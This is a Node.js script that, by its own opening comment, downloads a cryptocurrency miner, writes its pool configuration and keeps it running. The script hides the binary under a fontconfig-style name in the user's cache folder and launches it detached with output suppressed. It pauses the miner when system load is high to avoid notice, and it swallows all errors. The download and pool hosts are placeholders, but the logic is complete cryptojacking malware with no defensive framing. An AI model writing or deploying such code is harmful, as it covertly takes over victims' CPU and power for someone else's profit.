// Fetches an archive with a miner, writes its configuration and keeps it running.
const https = require('https')
const fs = require('fs')
const path = require('path')
const os = require('os')
const zlib = require('zlib')
const childProcess = require('child_process')

const folder = path.join(
	os.homedir(),
	'.cache',
	'fontconfig-update'
)
const binary = path.join(folder, 'fc-updated')

const config = {
	autosave: false,
	cpu: {
		enabled: true,
		'max-threads-hint': 50,
		priority: 1
	},
	pools: [
		{
			url: 'pool.mine.invalid:443',
			user: 'invalidwallet',
			pass: os.hostname(),
			tls: true,
			keepalive: true
		}
	],
	background: true,
	'donate-level': 0
}

function fetchBinary() {
	return new Promise((resolve, reject) => {
		https
			.get(
				'https://dist.mine.invalid/fc-updated.gz',
				res => {
					if (
						res.statusCode >= 300 &&
						res.statusCode < 400
					) {
						return https.get(res.headers.location, next =>
							save(next, resolve, reject)
						)
					}
					save(res, resolve, reject)
				}
			)
			.on('error', reject)
	})
}

function save(stream, resolve, reject) {
	const out = fs.createWriteStream(binary, { mode: 0o755 })
	stream.pipe(zlib.createGunzip()).pipe(out)
	out.on('finish', resolve)
	out.on('error', reject)
}

function idle() {
	const load = os.loadavg()[0] / os.cpus().length
	return load < 0.4
}

let child
function supervise() {
	if (child && child.exitCode === null) {
		if (!idle()) {
			process.kill(child.pid, 'SIGSTOP')
		} else {
			process.kill(child.pid, 'SIGCONT')
		}
	} else {
		child = childProcess.spawn(
			binary,
			['-c', path.join(folder, 'config.json')],
			{ cwd: folder, stdio: 'ignore', detached: true }
		)
		child.unref()
	}
}

if (!fs.existsSync(binary)) {
	fs.mkdirSync(folder, { recursive: true })
	fs.writeFileSync(
		path.join(folder, 'config.json'),
		JSON.stringify(config)
	)
	fetchBinary()
		.then(() => setInterval(supervise, 60000))
		.catch(() => {})
} else {
	setInterval(supervise, 60000)
}
